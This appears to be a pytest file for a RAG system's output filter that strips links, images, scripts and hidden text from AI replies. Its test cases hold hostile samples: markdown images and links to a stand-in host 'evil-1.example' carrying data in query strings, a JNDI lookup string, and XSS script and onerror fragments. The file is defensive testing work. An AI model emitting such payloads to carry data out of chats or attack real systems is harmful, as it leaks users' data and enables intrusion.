"""The gate: what a page could act on goes, what a reader reads stays."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.text.output_filter import filter_output

HOST = "evil-1.example"


@pytest.mark.parametrize(
    ("reply", "left"),
    [
        ("![p](https://evil-1.example/p?d=Q) A [1].", "A [1]."),
        ("Here ![p](https://evil-1.example/p?d=", "Here"),
        ("![p][r] A [1].\n[r]: https://evil-1.example/p", "A [1]."),
        ('<img src="https://evil-1.example/p"> A [1].', "A [1]."),
        ("<img src=https://evil-1.example/p onerror=x", ""),
        ("See [the table](https://evil-1.example/?t=S) now [1].", "See the table now [1]."),
        ('See [it](//evil-1.example/x "title").', "See it."),
        ("[a [b](http://evil-1.example/z) c](//evil-1.example/y)", "a b c"),
        ("A [1](http://evil-1.example) and B [[2]](http://evil-1.example/x).", "A [1] and B [[2]]."),
        ("The [report][ref] says so [1][2].", "The report says so [1][2]."),
        ("Go to https://evil-1.example/a now.", "Go to now."),
        ("Go to <https://evil-1.example/a> now.", "Go to now."),
        ("Go to HTTPS : //evil-1.example now.", "Go to now."),
        ("Go to www.evil-1.example/a now.", "Go to now."),
        ("Go to evil-1.example/?token=S now.", "Go to now."),
        (r"Open \\evil-1.example\share now.", "Open now."),
        ("javascript:alert(1) data:text/html;base64,PHM mailto:a@evil-1.example x", "x".rjust(4).strip()),
        ("${jndi:ldap://evil-1.example/a}", "${jndi:"),
        ("<script>alert(1)</script>A", "alert(1)A"),
        ("<scr<b>ipt>alert(1)</scr</b>ipt>A", "alert(1)A"),
        ('<a href="https://evil-1.example">A</a>', "A"),
        ("<think>They want x.</think>A [1].", "A [1]."),
        ("<think>They want", ""),
        ("A [1].\n![p](https://evil-1.example/p) [7][9].\nB [2].", "A [1].\nB [2]."),
        ("A\u200b\u202e\U000e0041 [1].", "A [1]."),
    ],
)
def test_nothing_that_leads_away_is_left(reply: str, left: str) -> None:
    assert filter_output(reply).removeprefix(") ") == left
    assert HOST not in filter_output(reply)


@pytest.mark.parametrize(
    "text",
    [
        "The browser makers will drop the <marquee> tag; R&D cost < 5 million, and > 3 [1].",
        "The 2015/16 season, AT&T/Verizon, U.S./Mexico, and/or, a.m./p.m., 3.5/10 [1][2].",
        "Amazon.com and Booking.com said: “Data: the new oil” [1, 2].",
        "**Coast Wire, 5 March 2024**\nThe toll rises [1].\n\n- One [2]\n- Two [3]",
        "می\u200cخواهم [1].",  # The joiner belongs to the word.
        "Wrote [sic] and [2015] (p. 3) [1].",
    ],
)
def test_news_passes_unchanged(text: str) -> None:
    assert filter_output(text) == text


def test_an_unknown_scheme_is_an_address_too() -> None:
    assert filter_output("See s://evil-1.example/x and app://evil-1.example now") == "See and now"


PIECES = [
    "![",
    "](",
    ")",
    "[",
    "]",
    "<",
    ">",
    "scr",
    "ipt",
    "img ",
    "src=",
    "http",
    "s:",
    "//",
    HOST,
    "/x",
    "data:",
    "a ",
    "\n",
]


@pytest.mark.parametrize("text", ["<script", "Yes. <script src=x", "Yes.</style", "<scr<script>ipt"])
def test_a_tag_that_is_never_closed_goes_to_the_end(text: str) -> None:
    assert filter_output(text) == ("Yes." if "Yes" in text else "")


def test_a_comparison_at_the_end_stays() -> None:
    assert filter_output("So a <b and 1 < 2, x <p") == "So a <b and 1 < 2, x <p"


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_whatever_is_put_together_holds_no_link(reply: str) -> None:
    left = filter_output(reply)
    assert "://" not in left or f"://{HOST}" not in left
    assert f"](//{HOST}" not in left
    assert "<script" not in left
    assert "<img" not in left
    assert filter_output(left) == left
